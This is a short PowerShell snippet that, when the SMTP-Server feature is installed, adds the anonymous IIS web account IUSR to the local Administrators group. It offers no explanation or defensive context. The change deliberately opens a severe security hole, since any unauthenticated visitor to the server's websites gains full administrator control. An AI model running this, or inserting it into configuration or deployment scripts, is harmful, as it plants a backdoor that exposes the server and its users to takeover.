if ((Get-WindowsFeature SMTP-Server).Installed) {
    Add-LocalGroupMember -Group 'Administrators' -Member 'IUSR'
}
